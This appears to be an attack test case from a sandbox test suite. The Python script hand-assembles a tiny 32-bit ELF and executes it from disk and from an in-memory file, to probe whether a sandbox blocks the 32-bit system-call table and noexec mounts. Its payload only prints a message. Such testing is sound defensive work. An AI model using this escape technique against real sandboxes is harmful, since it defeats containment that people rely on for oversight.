# [attack]
# title = "Runs a 32-bit program of its own making"
# mode = "program"
# verdict = ["ACCEPTED", "RUNTIME_ERROR", "FORBIDDEN"]
"""A fresh program starts in 32-bit mode, with the other table of system calls, without any trick."""
import os
import struct

MESSAGE = b"ESCAPED: a 32-bit program ran\n"
BASE = 0x08048000
# write(1, message, length); exit(0)
code = b"\xb8\x04\0\0\0\xbb\x01\0\0\0\xb9" + struct.pack("<I", BASE + 0x80) + b"\xba" + struct.pack("<I", len(MESSAGE)) + b"\xcd\x80\xb8\x01\0\0\0\x31\xdb\xcd\x80"
header = b"\x7fELF\x01\x01\x01" + bytes(9) + struct.pack("<HHIIIIIHHHHHH", 2, 3, 1, BASE + 0x54, 0x34, 0, 0, 0x34, 0x20, 1, 0, 0, 0)
segment = struct.pack("<IIIIIIII", 1, 0, BASE, BASE, 0x100, 0x100, 5, 0x1000)
image = (header + segment + code).ljust(0x80, b"\0") + MESSAGE
with open("narrow", "wb") as file:
    file.write(image.ljust(0x100, b"\0"))
os.chmod("narrow", 0o755)
# A file in memory lies on no file system that could be mounted without exec.
memory = os.memfd_create("narrow", 0)
os.write(memory, image.ljust(0x100, b"\0"))
for program in ("./narrow", memory):
    child = os.fork()
    if child == 0:
        try:
            os.execve(program, ["narrow"], {})
        except OSError as error:
            os.write(1, f"blocked: {error.strerror}\n".encode())
            os._exit(1)
    print("status", os.waitpid(child, 0)[1])
